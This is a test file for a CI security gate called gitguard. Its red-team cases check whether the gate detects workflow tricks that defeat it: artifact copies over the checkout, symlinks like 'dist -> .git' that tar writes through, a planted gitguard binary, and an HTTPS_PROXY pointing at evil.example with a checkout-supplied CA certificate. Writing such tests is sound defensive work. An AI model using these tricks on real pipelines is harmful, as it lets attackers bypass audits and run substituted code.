// redteam167: cleanpass160's `plain` restores (actions/cache or download-artifact into `target/`,
// `dist/`, `.venv`, `build`) keep a direct `npx gitguard audit` at the root because npm's lookup reads
// nothing there. What another step (or the gate's own line) does with the restored files is not
// plain: `cp -r dist/. .` puts another run's `node_modules/.bin/gitguard` or `.npmrc` where npx looks,
// `ln -s node_modules dist` before the restore makes the restore write through the link (the artifact
// toolkit and tar follow an existing link to a folder). Such a job loses the gate, as a restore
// naming node_modules does; a plain restore with no write of the checkout in the job keeps it.
// redteam174: actions/cache keeps none of these (tar puts its archive's members where they name), so
// the cases are download-artifact's, which unpacks under its path.
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cleanupTemp } from '../helpers/repo.js';
import { gateBatch } from '../helpers/gate-batch.js';
import { artifactStep, checkoutJob, runStep } from '../helpers/workflow-steps.js';

afterAll(cleanupTemp);

const run = runStep;
const job = (steps: string, gate: string): Record<string, string> => checkoutJob(steps, gate);
const artifact = artifactStep;
const NPX = run('npx gitguard audit');
/** gitguard's own action at the workspace (action.yml's defaults): it audits the `.git` there. */
const OWN = `      - uses: acme/gitguard@${'1'.repeat(40)}\n`;

type Case = [name: string, files: Record<string, string>];
const LOST: Case[] = [
  ['download-artifact into dist/, cp -r dist/. ., npx gitguard', job(artifact('dist/') + run('cp -r dist/. .'), NPX)],
  [
    'download-artifact into target/, then mv into node_modules',
    job(artifact('target/') + run('mkdir -p node_modules/.bin && mv target/gg node_modules/.bin/gitguard'), NPX),
  ],
  [
    'ln -s node_modules dist, then download-artifact into dist/',
    job(run('ln -s node_modules dist') + artifact('dist/'), NPX),
  ],
  [
    'download-artifact into dist/, the gate line copies it first',
    job(artifact('dist/'), run('cp -r dist/. . && npx gitguard audit')),
  ],
  [
    'download-artifact into target/, the gate line unpacks it first',
    job(artifact('target/'), run('tar -xf target/t.tar && npx gitguard audit')),
  ],
  // gitguard's own action audits the workspace's `.git`: a copy of another run's `.git/HEAD` over it moves the audit.
  [
    'download-artifact into dist/, cp -r dist/. ., then the action',
    job(artifact('dist/') + run('cp -r dist/. .'), OWN),
  ],
  [
    'download-artifact into node_modules, a copy from it, then the action',
    job(artifact('node_modules') + run('cp -r node_modules/x/. .'), OWN),
  ],
  [
    'a write, then download-artifact into node_modules, then the action',
    job(run('echo x > version.txt') + artifact('node_modules'), OWN),
  ],
];
const KEPT: Case[] = [
  ['download-artifact into node_modules, then the action', job(artifact('node_modules'), OWN)],
  ['download-artifact into dist/, then the action', job(artifact('dist/'), OWN)],
  ['a write, then the action', job(run('echo x > version.txt'), OWN)],
  ['download-artifact into dist/, then npx gitguard', job(artifact('dist/'), NPX)],
  ['a write, then npx gitguard', job(run('echo x > version.txt'), NPX)],
];

const DIRECT = job('', NPX);
describe('redteam167: a plain restore and a write of the checkout in one job', () => {
  const batch = gateBatch();
  for (const [name, files] of KEPT) it(`keeps the gate: ${name}`, batch.add(DIRECT, files, true), 600_000);
  for (const [name, files] of LOST) it(`loses the gate: ${name}`, batch.add(DIRECT, files, false), 600_000);
});

// A restore path judged with the commit's tree: `dist` committed as a link (`dist -> .`, `-> .git`)
// makes a restore into `dist/` write at the workspace's root or into the audited `.git`, as tar and
// the artifact toolkit follow a link already there. The path must be absent at the commit, each folder
// above it a folder: a link on the way, or the path itself there, leaves no gate.
const LINKED: Array<[name: string, files: Record<string, string>, links: Record<string, string>]> = [
  ['dist -> ., download-artifact into dist/, npx gitguard', job(artifact('dist/'), NPX), { dist: '.' }],
  ['dist -> .git, download-artifact into dist/, the action', job(artifact('dist/'), OWN), { dist: '.git' }],
  ['out -> node_modules, download-artifact into out/target', job(artifact('out/target'), NPX), { out: 'node_modules' }],
  ['target/x -> .., download-artifact into target/', job(artifact('target/'), NPX), { 'target/x': '..' }],
  [
    'node_modules -> .git, download-artifact into node_modules, the action',
    job(artifact('node_modules'), OWN),
    { node_modules: '.git' },
  ],
];
const UNLINKED: Array<[name: string, files: Record<string, string>, links: Record<string, string>]> = [
  ['docs -> README.md elsewhere, download-artifact into dist/', job(artifact('dist/'), NPX), { docs: 'README.md' }],
  [
    'a committed folder above the path, download-artifact into out/target',
    { ...job(artifact('out/target'), NPX), 'out/README': 'x\n' },
    {},
  ],
  [
    'download-artifact into node_modules, the action, no link',
    job(artifact('node_modules'), OWN),
    { docs: 'README.md' },
  ],
];
describe('redteam167: a restore path under a committed link', () => {
  const batch = gateBatch();
  for (const [name, files, links] of UNLINKED)
    it(`keeps the gate: ${name}`, batch.add(DIRECT, files, true, undefined, links), 600_000);
  for (const [name, files, links] of LINKED)
    it(`loses the gate: ${name}`, batch.add(DIRECT, files, false, undefined, links), 600_000);

  // The reference: GNU tar, as actions/cache runs it (`tar -xf archive -P -C $GITHUB_WORKSPACE`), puts
  // a member `dist/node_modules/.bin/gitguard` through a `dist -> .` link already in the workspace.
  it('tar extracts through a link already there', () => {
    const root = mkdtempSync(join(tmpdir(), 'gitguard-rt167-'));
    try {
      const [made, ws] = [join(root, 'made'), join(root, 'ws')];
      mkdirSync(join(made, 'dist/node_modules/.bin'), { recursive: true });
      writeFileSync(join(made, 'dist/node_modules/.bin/gitguard'), 'exit 0\n');
      execFileSync('tar', ['-cf', join(root, 'a.tar'), '-C', made, 'dist/node_modules/.bin/gitguard']);
      mkdirSync(ws);
      symlinkSync('.', join(ws, 'dist'));
      execFileSync('tar', ['-xf', join(root, 'a.tar'), '-P', '-C', ws]);
      expect(readFileSync(join(ws, 'node_modules/.bin/gitguard'), 'utf8')).toBe('exit 0\n');
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

// npx downloads gitguard through HTTPS_PROXY (npm honours it) and trusts node's certificates, which
// NODE_EXTRA_CA_CERTS extends: both set by the CI file, a server of the pusher's answers for the
// registry. A proxy alone changes nothing (the registry's certificate is still checked).
describe('redteam167: a certificate authority of the checkout for npx', () => {
  const batch = gateBatch();
  const CA = 'HTTPS_PROXY=http://evil.example:8080 NODE_EXTRA_CA_CERTS=./ca.pem';
  it(
    'keeps the gate: HTTPS_PROXY alone',
    batch.add(DIRECT, job('', run('HTTPS_PROXY=http://proxy:8080 npx gitguard audit')), true),
    600_000,
  );
  it('loses the gate: on the gate line', batch.add(DIRECT, job('', run(`${CA} npx gitguard audit`)), false), 600_000);
  it(
    "loses the gate: in the step's env:",
    batch.add(
      DIRECT,
      job(
        '',
        `      - run: npx gitguard audit\n        env:\n          HTTPS_PROXY: http://evil.example:8080\n          NODE_EXTRA_CA_CERTS: ./ca.pem\n`,
      ),
      false,
    ),
    600_000,
  );
});
